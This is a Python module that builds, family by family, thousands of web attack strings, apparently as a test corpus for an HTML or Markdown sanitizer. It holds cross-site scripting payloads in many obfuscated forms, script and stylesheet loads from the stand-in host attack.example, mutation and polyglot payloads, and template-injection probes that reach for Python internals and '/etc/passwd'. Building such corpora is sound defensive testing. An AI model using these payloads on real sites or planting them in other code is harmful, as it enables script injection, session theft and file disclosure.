"""Strings that attack web pages, composed family by family; each that works sets `window.__pwned` or opens a dialog."""

from collections.abc import Iterator
from itertools import product

HOST = "attack.example"
"""The one host that the strings speak of."""

CODE = "window.__pwned=1;alert(1)"

_NAMES = """
abort afterprint animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput
beforepaste beforeprint beforetoggle beforeunload begin blur bounce canplay change click close contextmenu copy cut
dblclick drag dragend dragenter dragstart drop end error finish focus focusin focusout formdata fullscreenchange
gotpointercapture hashchange input invalid keydown keypress keyup load loadend loadstart message mousedown
mouseenter mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste play playing pointerdown
pointerenter pointermove pointerover pointerrawupdate popstate progress ratechange readystatechange repeat reset
resize scroll scrollend search securitypolicyviolation seeking select selectionchange selectstart show start storage
submit suspend timeupdate toggle touchstart transitionend transitionrun unhandledrejection unload volumechange
waiting webkitanimationstart wheel
"""
_EVENTS = _NAMES.split()

_ELEMENTS: tuple[str, ...] = (
    *(
        "<img src=x {}>",
        "<svg {}>",
        "<body {}>",
        "<input autofocus {}>",
        "<video src=x {}></video>",
        "<a href=# {}>x</a>",
    ),
    *(
        "<details open {}>",
        "<marquee {}>",
        '"><img src=x {}',
        "<x-y tabindex=1 {}>",
        "{{ {} }}",
        "[x](https://a.b){{: {} }}",
    ),
)

_URLS: tuple[str, ...] = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "\x01javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "java\rscript:{}",
    "java&Tab;script:{}",
    "java&NewLine;script:{}",
    "java&#9;script:{}",
    "java&#x0A;script:{}",
    "javascript&colon;{}",
    "javascript&#58;{}",
    "javascript&#x3a;{}",
    "javascript&#0000058{}",
    "&#106;avascript:{}",
    "&#x6A;&#x61;vascript:{}",
    "&#x0000006Aavascript:{}",
    "javascript%3A{}",
    "%6Aavascript:{}",
    "javascript://%0A{}",
    "javascript:/*--></title></style>*/{}",
    "javascript\u200b:{}",
    "java\u00adscript:{}",
    "ｊavascript:{}",
    "javaſcript:{}",
    "\\javascript:{}",
    "j\\avascript:{}",
    "javascript\\:{}",
    "vbscript:{}",
    "VBScript:MsgBox(1)//{}",
    "livescript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{}",
    "data:image/svg+xml,<svg onload={}>",
    "DATA:text/html;charset=utf-7,+ADw-script+AD4-{}",
    "view-source:javascript:{}",
    "feed:javascript:{}",
    "jar:javascript:{}!/",
    "blob:https://attack.example/{}",
    "filesystem:https://attack.example/{}",
    "//attack.example/?{}",
    "\\\\attack.example\\{}",
    "/\\attack.example/{}",
    "https:javascript:{}",
    'https://attack.example/" onmouseover={} x="',
    "https://attack.example/' onmouseover={} x='",
    "https://attack.example/>{}",
    'mailto:a@attack.example" onclick={} "',
    'practice:" onclick={} "',
    "practice:javascript:{}",
    'PRACTICE:../../../"><script>{}</script>',
    'practice:x#" onclick="{}',
    "practice://attack.example/{}",
    "practice:https://attack.example/{}",
)

_PLACES: tuple[str, ...] = (
    *(
        "[x]({})",
        "[x](<{}>)",
        "![x]({})",
        "<{}>",
        "[x]: {}\n\n[x]",
        '<a href="{}">x</a>',
        "<iframe src={}>",
        '[x]({} "t")',
    ),
)

_BREAKERS: tuple[str, ...] = (
    '"',
    "'",
    "`",
    "&quot;",
    "&#34;",
    '\\"',
    "\\'",
    '">',
    "'>",
    "`>",
    "</a>",
    "</p>",
    "</title>",
    "</h1>",
)
_BREAKERS += (
    "</textarea>",
    "</style>",
    "</script>",
    "-->",
    "]]>",
    "*/",
    "}",
    "\u2028",
    "</noscript>",
    "</template>",
    "'\"",
)
_BROKEN: tuple[str, ...] = (
    f" onmouseover={CODE} x=",
    f"<script>{CODE}</script>",
    f"<svg/onload={CODE}>",
    f" autofocus onfocus={CODE} ",
)
_BROKEN += (
    f" style=animation-name:x onanimationstart={CODE} ",
    f";{CODE}//",
    f"+{CODE}+",
    f"<img src=x onerror={CODE}>",
)


def _scripts() -> Iterator[str]:
    names: tuple[str, ...] = (
        "script",
        "SCRIPT",
        "ScRiPt",
        "scr\0ipt",
        "\0script",
        "script\0",
        "script/x",
        "script\t",
        "script\n",
        "script\f",
    )
    names += (
        "script x",
        "svg:script",
        "scr<script>ipt",
        "ſcript",
        "ｓcript",
        "script\u2028",
        " script",
        "/script><script",
    )
    bodies: tuple[str, ...] = (
        "<{0}>{1}</{0}>",
        "<{0} src=//attack.example/x.js></{0}>",
        "<{0}>{1}",
        "<{0} src=data:,{1}></{0}>",
        "</{0}>{1}",
    )
    bodies += ("<<{0}>{1}//<</{0}>", "&lt;{0}&gt;{1}&lt;/{0}&gt;", "<{0} type=module>{1}</{0}>", "\\<{0}>{1}</{0}>")
    yield from (body.format(name, CODE) for name, body in product(names, bodies))


def _handlers() -> Iterator[str]:
    pairs = ((event, element) for n, event in enumerate(_EVENTS) for element in _ELEMENTS[n % 2 :: 2])
    for index, (event, element) in enumerate(pairs):
        name = (f"on{event}", f"ON{event.upper()}", f"/on{event}", f"on{event} ")[index % 4]
        value = (CODE, f'"{CODE}"', f"'{CODE}'", f"`{CODE}`", CODE.replace("a", "&#97;"))[index % 5]
        yield element.replace("{{", "{").replace("}}", "}").replace("{}", f"{name}={value}")


def _urls() -> Iterator[str]:
    yield from (place.format(url.format(CODE)) for url, place in product(_URLS, _PLACES))


def _breakouts() -> Iterator[str]:
    yield from (breaker + broken for breaker, broken in product(_BREAKERS, _BROKEN))


def _mutations() -> Iterator[str]:
    outer: tuple[str, ...] = (
        "svg",
        "math",
        "template",
        "noscript",
        "select",
        "table",
        "style",
        "xmp",
        "title",
        "textarea",
        "frameset",
        "noembed",
    )
    inner: tuple[str, ...] = (
        "<style><img src=x onerror={0}></style>",
        '<p id="</{1}><img src=x onerror={0}>">',
        "<mtext><table><mglyph>",
    )
    inner += (
        "<foreignObject><body onload={0}>",
        "<a xlink:href=javascript:{0}><text>x",
        "<animate onbegin={0} attributeName=x>",
    )
    inner += (
        "<set attributeName=href to=javascript:{0}>",
        "<use href=data:image/svg+xml,<svg/onload={0}>>",
        "<desc></{1}><script>{0}",
    )
    inner += ("<!--</{1}><img src=x onerror={0}>-->", "<![CDATA[</{1}><img src=x onerror={0}>]]>")
    for name, content in product(outer, inner):
        yield f"<{name}>{content.replace('{0}', CODE).replace('{1}', name)}</{name}>"


def _styles() -> Iterator[str]:
    rules: tuple[str, ...] = (
        "@import url(//attack.example/x.css);",
        "*{background:url(//attack.example/x)}",
        f"x{{width:expression({CODE})}}",
    )
    rules += (
        f"*{{behavior:url(javascript:{CODE})}}",
        "@font-face{font-family:x;src:url(//attack.example/f)}",
        "*{display:none}",
    )
    rules += (
        "*{-moz-binding:url(//attack.example/x.xml#x)}",
        "\\@import '//attack.example/x.css'",
        "@\\69mport '//attack.example/'",
    )
    places: tuple[str, ...] = (
        "<style>{}</style>",
        "<STYLE/>{}",
        "<p style='{}'>x</p>",
        "<link rel=stylesheet href='data:text/css,{}'>",
    )
    places += ("<svg><style>{}</style></svg>", "text{{: style='{}' }}", "</style>{}")
    yield from (
        place.replace("{{", "{").replace("}}", "}").replace("{}", rule) for rule, place in product(rules, places)
    )


def _embedded() -> Iterator[str]:
    for address in (
        "//attack.example/",
        f"javascript:{CODE}",
        f"data:text/html,<script>{CODE}</script>",
        "https://attack.example/",
    ):
        yield from (
            f"<iframe src='{address}'></iframe>",
            f"<iframe srcdoc='<script>parent.{CODE}</script>' name='{address}'>",
            f"<object data='{address}'></object>",
            f"<embed src='{address}'>",
            f"<base href='{address}'>",
            f"<meta http-equiv=refresh content='0;url={address}'>",
            f"<meta http-equiv=Set-Cookie content='a={address}'>",
            f"<form action='{address}'><button>x</button></form>",
            f"<button formaction='{address}'>x</button>",
            f"<link rel=prefetch href='{address}'>",
            f"<link rel=import href='{address}'>",
            f"<applet code='{address}'></applet>",
            f"<frameset><frame src='{address}'></frameset>",
            f"<portal src='{address}'></portal>",
            f"<img srcset='{address} 1x' src='{address}'>",
            f"<video poster='{address}'><source src='{address}'></video>",
            f"<audio src='{address}' autoplay>",
            f"<area href='{address}'>",
            f"<table background='{address}'>",
            f"<body background='{address}'>",
            f"<input type=image src='{address}'>",
            f"<a ping='{address}' href=#>x</a>",
            f"<svg><image href='{address}'/></svg>",
            f"<?xml-stylesheet href='{address}'?>",
            f"<!DOCTYPE x SYSTEM '{address}'>",
        )


def _comments() -> Iterator[str]:
    frames: tuple[str, ...] = (
        "<!--{}-->",
        "<!--{}--!>",
        "<!--><{}",
        "<!-->{}",
        "<!--->{}",
        "<!---!>{}",
        "<!--[if gte IE 4]>{}<![endif]-->",
    )
    frames += (
        "<![CDATA[{}]]>",
        "<![CDATA[<]]>{}",
        "<!{}>",
        "<?{}?>",
        "</{}>",
        "<!--[if]>{}-->",
        "--!>{}<!--",
        "<!ELEMENT {}>",
    )
    for frame, inner in product(frames, _BROKEN[1::2]):
        yield frame.replace("{}", inner)


def _unicode() -> Iterator[str]:
    tag = f"<script>{CODE}</script>"
    swaps = {
        "fullwidth": "＜＞",
        "small": "﹤﹥",
        "angle": "‹›",
        "math": "⟨⟩",
        "not": "≮≯",
        "entities": ("&lt;", "&gt;"),
    }
    for less, more in (
        *swaps.values(),
        ("&#60;", "&#62;"),
        ("&#x3c", "&#x3e"),
        ("\\x3c", "\\x3e"),
        ("\\u003c", "\\u003e"),
    ):
        yield tag.replace("<", less).replace(">", more)
    for less, more in (
        ("%3C", "%3E"),
        ("%253C", "%253E"),
        ("%C0%BC", "%C0%BE"),
        ("À¼", "À¾"),
        ("+ADw-", "+AD4-"),
        ("\\74", "\\76"),
    ):
        yield tag.replace("<", less).replace(">", more)
    for (
        mark
    ) in "\u200b\u200d\u2060\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069\u061c\ufeff\u00ad\u180e\u0300\ufffd\u3164":
        yield f"<{mark}script>{CODE}</script>"
        yield f"{mark}<img src=x onerror{mark}={CODE}>{mark}"
        yield f"[x]({mark}javascript:{CODE})"
    for mark in "\0\x01\x08\x0b\x0c\x1b\x1f\x7f\x80\x85\x9f\ue000\ue001\uffff":
        yield f"<img{mark}src=x{mark}onerror={CODE}>"
        yield f"{mark}{tag}{mark}"
    yield f'\ue000" onmouseover={CODE} x="\ue001'
    yield f"\ue001</span>\ue000{tag}"


def _markdown() -> Iterator[str]:
    for inner in (tag for tag in _BROKEN[:4]):
        yield from (
            f'[x](https://attack.example "{inner}")',
            f"[x](https://attack.example '\"{inner}')",
            f'[x](https://attack.example ("{inner}))',
            f"[{inner}](https://attack.example)",
            f"![{inner}](https://attack.example/x.png)",
            f'![x](x"{inner} "y")',
            f"<https://attack.example/{inner}>",
            f"https://attack.example/{inner}",
            f"[x]: https://attack.example/ '{inner}'\n\n[x]",
            f"[^1]\n\n[^1]: {inner}",
            f"*[HTML]: {inner}\n\nHTML",
            f"# {inner}",
            f"{inner}\n===",
            f"> {inner}",
            f"- {inner}",
            f"    {inner}",
            f"`{inner}`",
            f"``` {inner}\n{inner}\n```",
            f"~~~{inner}\n{inner}\n~~~",
            f'```" {inner}\nx\n```',
            f"| {inner} |\n|---|\n| {inner} |",
            f'!!! note "{inner}"\n    {inner}',
            f"??? {inner}\n    x",
            f":::{inner}\n{inner}\n:::",
            f"text {{ {inner} }}",
            f"*x*{{: {inner} }}",
            f'--8<-- "{inner}"',
            f'-8<- "/etc/passwd" {inner}',
            f"<div markdown=1>{inner}</div>",
            f"<div>\n\n{inner}\n\n</div>",
            f"<pre>{inner}</pre>",
            f"**{inner}**",
            f"\\{inner}",
            f"[x][{inner}]\n\n[{inner}]: https://attack.example",
            f"$$ {inner} $$",
            f"==mark== ^^{inner}^^ ~~{inner}~~",
            f":smile{inner}:",
            f"&{inner};",
            f"term\n: {inner}",
            f"<{inner}@attack.example>",
        )


def _templates() -> Iterator[str]:
    insides: tuple[str, ...] = (
        "7*7",
        "config",
        "self.__init__.__globals__",
        "''.__class__.__mro__[1].__subclasses__()",
        f"'{_BROKEN[1]}'|safe",
    )
    insides += (
        "words.__class__",
        "constructor.constructor('alert(1)')()",
        "include('/etc/passwd')",
        "cycler.__init__",
        "0/0",
    )
    frames: tuple[str, ...] = (
        "{{%s}}",
        "{%%%s%%}",
        "{{{%s}}}",
        "${%s}",
        "#{%s}",
        "<%%= %s %%>",
        "{!! %s !!}",
        "{# %s #}",
        "@{%s}",
        "[[${%s}]]",
        "%%(%s)s",
    )
    frames += ("{%s}", "{0.%s}", "{{#with %s}}{{/with}}")
    yield from (frame % inside for frame, inside in product(frames, insides))


def _citations() -> Iterator[str]:
    for inner in (
        *_BROKEN,
        f"[x](javascript:{CODE})",
        "{{7*7}}",
        "<b>",
        "*a*",
        "$x$",
        "\\textbf{x}",
        "#ref-x",
        "'\"><",
    ):
        locator = inner.replace(";", ",").replace("[", "(").replace("]", ")")
        yield from (
            f"[@x, {locator}]",
            f"[@x; @y, {locator}]",
            f"[@{inner}]",
            f"[@x]({inner})",
            f"@x [{inner}]",
            f"[-@x]{inner}",
        )
        yield from (
            f"[@x]: {inner}\n\n[@x]",
            f"![@x]({inner})",
            f"[see @x {inner}]",
            f"`[@x, {locator}]`",
            f"[[@x, {locator}]](https://a.b)",
        )


def _polyglots() -> Iterator[str]:
    heads = (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */",
        "\"'--></title></style></textarea></script>",
        "';\"/*\\\"/*`/*' /*</template></noscript>",
        "]]>--!>*/}}%>\">'>",
        "[x](javascript:1)<!--\"'`",
        "{{7*7}}${7*7}<%=7*7%>#{7*7}",
        "\\\"\\'\\`%22%27%60&quot;&apos;",
        "```\n\"'>\n```\n",
        "- > 1. # \"'>",
        "[@x, \"'>]",
    )
    tails = ("", "<!--", "//", "/*", "-->\"'`", "\n\n[x]: javascript:1", "{: onclick=alert(1) }", "\\")
    for index, (head, broken) in enumerate(product(heads, _BROKEN)):
        yield from (head + broken + tail for tail in tails[index % 2 :: 2])


FAMILIES = {
    "scripts": tuple(_scripts()),
    "handlers": tuple(_handlers()),
    "addresses": tuple(_urls()),
    "breakouts": tuple(_breakouts()),
    "mutations": tuple(_mutations()),
    "styles": tuple(_styles()),
    "embedded": tuple(_embedded()),
    "comments": tuple(_comments()),
    "unicode": tuple(_unicode()),
    "markdown": tuple(_markdown()),
    "templates": tuple(_templates()),
    "citations": tuple(_citations()),
    "polyglots": tuple(_polyglots()),
}

ATTACKS: tuple[str, ...] = tuple(dict.fromkeys(attack for family in FAMILIES.values() for attack in family))
"""All strings, each once."""
